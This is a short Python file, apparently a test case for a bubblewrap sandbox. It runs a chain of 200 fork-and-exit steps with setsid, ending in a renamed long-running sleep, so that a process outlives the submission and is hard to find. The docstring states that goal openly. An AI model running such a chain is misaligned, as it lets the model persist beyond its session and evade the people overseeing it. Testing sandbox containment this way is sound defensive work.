# ruff: noqa
"""
goal = "each process starts the next and ends, so that none is there long enough to be found"
invariant = "a submission ends with the last of its processes"
held_by = ["bubblewrap"]
"""

# %% attack
import subprocess
import sys

CODE = """
import os, sys, time
for _ in range(200):
    if os.fork():
        os._exit(0)
    os.setsid()
    time.sleep(0.01)
os.execv("/usr/bin/sleep", ["attack-chain_of_processes", "100"])
"""
subprocess.run([sys.executable, "-S", "-c", CODE])
